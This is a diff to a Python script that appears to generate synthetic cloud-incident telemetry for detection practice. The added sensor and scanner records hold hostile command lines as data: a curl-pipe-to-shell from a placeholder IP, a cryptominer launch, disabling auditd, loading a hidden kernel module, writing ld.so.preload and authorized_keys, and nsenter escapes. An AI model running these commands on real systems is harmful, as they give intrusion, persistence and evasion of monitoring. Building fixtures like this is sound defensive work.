@@ -8,6 +8,7 @@ The story, 2026-03-14 UTC. Benign all day: people in the console, a CI role that
 themselves, web traffic, resolvers, kubelets. From 02:11 on somebody uses a leaked access key of `dana` over Tor, looks
 around, gives themselves keys and rights, blinds the logs, opens a bucket and a port, shares a snapshot. An instance
 mines and calls home. In the cluster, the anonymous user reads secrets.
+Sensors and scanners on the hosts see the miner, a kernel module and a web shell.
 """
 import gzip, hashlib, io, json, os, random
 from datetime import datetime, timedelta, timezone
@@ -314,9 +315,81 @@ def write_findings():
     write("guardduty/findings-2026-03-14.ndjson", "\n".join(lines) + "\n", packed=False)
 
 
+# ---- sensors and scanners on the hosts: a few records of each
+def lines(path, rows):
+    write(path, "\n".join(json.dumps(r, separators=(",", ":")) for r in rows) + "\n", packed=False)
+
+
+def write_sensors():
+    def falco(time, rule, priority="Notice", **fields):
+        fields = {k.replace("__", "."): v for k, v in fields.items()}
+        return {"hostname": "i-0ff00ee11dd22cc33.ec2.internal", "output": rule, "output_fields": {"evt.time": int(time.timestamp()) * 10**9} | fields,
+                "priority": priority, "rule": rule, "source": "syscall", "tags": ["host"], "time": time.strftime("%Y-%m-%dT%H:%M:%S.000000000Z")}
+
+    host = {"container__id": "host", "user__name": "www-data", "user__uid": 33, "k8s__pod__name": None}
+    lines("runtime/falco.ndjson", [
+        falco(at("03:02"), "Program started", evt__type="execve", proc__name="sh", proc__exepath="/usr/bin/dash", proc__cmdline="sh -c curl -fsSL http://203.0.113.13/i.sh | sh",
+              proc__pname="nginx", proc__pexepath="/usr/sbin/nginx", proc__pcmdline="nginx: worker process", proc__tty=0, **host),
+        falco(at("03:04"), "Program started", evt__type="execve", proc__name="kworkerd", proc__exepath="/tmp/.x/kworkerd", proc__cmdline="kworkerd -o stratum+tcp://eu1.pool.example-mining.net:3333 -u x",
+              proc__pname="sh", proc__tty=0, **host),
+        falco(at("03:05"), "Connection", evt__type="connect", proc__name="kworkerd", proc__exepath="/tmp/.x/kworkerd", proc__cmdline="kworkerd", proc__pname="sh",
+              fd__type="ipv4", fd__name="10.0.2.23:48112->203.0.113.66:3333", fd__lip="10.0.2.23", fd__lport=48112, fd__rip="203.0.113.66", fd__rport=3333, fd__l4proto="tcp", **host),
+        falco(at("03:06"), "File opened", evt__type="openat", proc__name="python3", proc__exepath="/usr/bin/python3.11", proc__cmdline="python3 -", proc__pname="sh",
+              fd__type="file", fd__name="/etc/cron.d/update", evt__arg__flags="O_TRUNC|O_CREAT|O_WRONLY|O_F_CREATED", **host),
+        falco(at("09:00"), "Program started", evt__type="execve", proc__name="ls", proc__exepath="/usr/bin/ls", proc__cmdline="ls -l", proc__pname="bash", proc__tty=34816, **host),
+        falco(at("09:10"), "Docker socket", evt__type="connect", proc__name="curl", proc__exepath="/usr/bin/curl", proc__cmdline="curl --unix-socket /run/docker.sock http://d/info", proc__pname="sh",
+              fd__type="unix", fd__name="ffff9b1c0->ffff9b1c4 /run/docker.sock", **(host | {"container__id": "4fa6e0f0c678", "container__name": "ci", "container__image__repository": "example/ci"}))])
+
+    def tetragon(kind, time, binary, arguments, parent="/usr/bin/containerd-shim-runc-v2", pid=4120, pod=True, **more):
+        process = {"exec_id": uuid("exec", time, binary), "pid": pid, "uid": 0, "cwd": "/", "binary": binary, "arguments": arguments, "flags": "execve clone", "start_time": iso(time), "auid": 4294967295}
+        if pod:
+            process["pod"] = {"namespace": "shop", "name": "orders-7d4b9c", "container": {"id": "containerd://" + "8c2f1e" * 10 + "8c2f", "name": "orders",
+                              "image": {"id": "sha256:0", "name": "example/orders:1"}, "start_time": iso(at("00:10")), "pid": 12}}
+        return {kind: {"process": process, "parent": {"exec_id": uuid("parent", binary), "pid": 77, "uid": 0, "binary": parent, "arguments": "", "start_time": iso(at("00:10"))}} | more,
+                "node_name": "ip-10-0-4-11.ec2.internal", "time": time.strftime("%Y-%m-%dT%H:%M:%S.123456789Z"), "cluster_name": "shop"}
+
+    sock = {"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "saddr": "10.0.4.30", "daddr": "203.0.113.13", "sport": 51300, "dport": 443}}
+    lines("runtime/tetragon.ndjson", [
+        tetragon("process_exec", at("04:05"), "/usr/bin/nsenter", "-t 1 -m -u -i -n -p -- bash", "/usr/bin/bash"),
+        tetragon("process_exec", at("09:41"), "/usr/bin/ls", "-l /srv"),
+        tetragon("process_kprobe", at("04:06"), "/usr/bin/curl", "https://cdn.update-check.example/x", "/usr/bin/bash", function_name="tcp_connect", args=[sock], action="KPROBE_ACTION_POST"),
+        tetragon("process_kprobe", at("04:07"), "/tmp/inject", "812", "/usr/bin/bash", function_name="__x64_sys_ptrace", args=[{"int_arg": 4}, {"int_arg": 812}], action="KPROBE_ACTION_POST"),
+        tetragon("process_kprobe", at("04:08"), "/usr/bin/bash", "", "/usr/bin/bash", function_name="security_file_permission", args=[{"file_arg": {"path": "/etc/ld.so.preload"}}, {"int_arg": 2}], action="KPROBE_ACTION_POST"),
+        tetragon("process_loader", at("04:09"), "/usr/sbin/sshd", "-D", path="/usr/lib/x86_64-linux-gnu/libc.so.6", buildid="AAAA"),
+        tetragon("process_dns", at("04:06"), "/usr/bin/curl", "", "/usr/bin/bash", dns={"names": ["cdn.update-check.example."], "question_types": ["A"], "rcode": 0, "ips": ["203.0.113.13"]})])
+
+    def laurel(time, serial, call, comm, exe, argv=None, ppid=1081, **more):
+        base = {"arch": "0xc000003e", "syscall": 59, "success": "yes", "exit": 0, "ppid": ppid, "pid": 2000 + serial, "auid": 1000, "uid": 0, "gid": 0, "euid": 0, "tty": "(none)", "comm": comm, "exe": exe,
+                "ARCH": "x86_64", "SYSCALL": call, "UID": "root", "EUID": "root"}
+        event = {"ID": f"{int(time.timestamp())}.375:{serial}", "NODE": "i-0aa11bb22cc33dd44", "SYSCALL": base | more.pop("syscall", {})} | more
+        return event | ({"EXECVE": {"argc": len(argv), "ARGV": argv}} if argv else {})
+
+    parent = {"PPID": {"EVENT_ID": "1.0:1", "comm": "sh", "exe": "/usr/bin/dash", "ppid": 1}}
+    lines("runtime/auditd.ndjson", [
+        laurel(at("03:07"), 501, "execve", "auditctl", "/usr/sbin/auditctl", ["auditctl", "-e", "0"], CWD={"cwd": "/root"}, **parent),
+        laurel(at("03:08"), 502, "finit_module", "insmod", "/usr/bin/kmod", syscall={"ARGV": ["0x3", "0x0", "0x0", "0x0"]}, KERN_MODULE=[{"name": "hideme"}], PATH=[{"item": 0, "name": "hideme.ko", "nametype": "NORMAL"}], CWD={"cwd": "/tmp"}, **parent),
+        laurel(at("03:09"), 503, "connect", "x", "/tmp/x", SOCKADDR=[{"saddr": "0x0200", "SADDR": {"fam": "inet", "addr": "203.0.113.13", "port": 443}}], **parent),
+        laurel(at("03:10"), 504, "openat", "x", "/tmp/x", syscall={"ARGV": ["0xffffff9c", "0x55d0", "0x441", "0x1b6"]}, CWD={"cwd": "/root"},
+               PATH=[{"item": 0, "name": ".ssh/", "nametype": "PARENT"}, {"item": 1, "name": ".ssh/authorized_keys", "nametype": "NORMAL"}], **parent),
+        laurel(at("09:20"), 505, "execve", "ls", "/usr/bin/ls", ["ls", "-l"], CWD={"cwd": "/root"}, **parent)])
+
+    scanned = {"account": ACCOUNT, "region": REGION}
+    lines("scans/clamav.ndjson", [
+        {"Magic": "CLAMJSONv0", "RootFileType": "CL_TYPE_ELF", "FileName": "kworkerd", "FileType": "CL_TYPE_ELF", "FileSize": 3145728, "FileMD5": hashlib.md5(b"x").hexdigest(), "Viruses": ["Multios.Coinminer.Miner-6781728-2"],
+         "time": iso(at("05:00")), "path": "/tmp/.x/kworkerd", "sha256": hashlib.sha256(b"x").hexdigest(), "asset": {"type": "instance"}, "host": {"instance": "i-0ff00ee11dd22cc33"}} | scanned,
+        {"Magic": "CLAMJSONv0", "RootFileType": "CL_TYPE_TEXT_ASCII", "FileName": "cv.txt", "FileType": "CL_TYPE_TEXT_ASCII", "FileSize": 812, "time": iso(at("05:01")), "path": "cv.txt",
+         "asset": {"type": "s3_object", "uid": "arn:aws:s3:::example-uploads/cv.txt"}, "object": {"bucket": "example-uploads", "key": "cv.txt"}} | scanned])
+    lines("scans/yara.ndjson", [
+        {"path": "/opt/t/mimi", "rules": [{"identifier": "Example_HackTool", "tags": ["hacktool"], "meta": {"severity": "high"}}], "time": iso(at("05:10")),
+         "asset": {"type": "ebs_snapshot", "uid": "snap-0123456789abcdef0"}} | scanned,
+        {"path": "/srv/www/a.php", "rules": [{"identifier": "Webshell_PHP_Example", "tags": ["webshell"], "meta": {"severity": "critical"}}], "time": iso(at("05:11")),
+         "asset": {"type": "kubernetes"}, "cluster": "shop", "container": {"id": "containerd://" + "8c2f1e" * 10 + "8c2f"}, "pod": {"name": "orders-7d4b9c", "namespace": "shop"}} | scanned])
+
+
 if __name__ == "__main__":
     write_trail()
     write_flows()
     write_dns()
     write_eks()
     write_findings()
+    write_sensors()
